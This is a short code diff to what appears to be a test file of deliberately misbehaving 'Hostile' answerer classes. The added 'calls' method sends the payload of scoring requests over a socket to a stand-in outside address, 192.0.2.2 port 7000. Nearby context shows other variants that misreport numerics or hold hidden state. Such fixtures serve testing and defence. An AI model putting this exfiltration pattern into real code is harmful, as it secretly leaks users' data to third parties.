@@ -7,6 +7,7 @@ import json
 import math
 import os
 import signal
+import socket
 import struct
 import sys
 import time
@@ -203,6 +204,13 @@ class Hostile(honest.Answerer):
         if kind == RESET:
             numerics = "fp32" if self.first_here() else "bf16"
             return MANIFEST, json.dumps({**self.manifest, "numerics": numerics}).encode()
+
+    def calls(self, kind, payload):
+        """Tells somebody outside what it was asked for."""
+        if kind == SCORE:
+            with socket.create_connection(("192.0.2.2", 7000)) as talk:
+                talk.sendall(payload)
+                time.sleep(1)
 
     def stateful(self, kind, payload):
         """Honest, with counts that grow after each chunk: needs the chunks again to answer questions."""
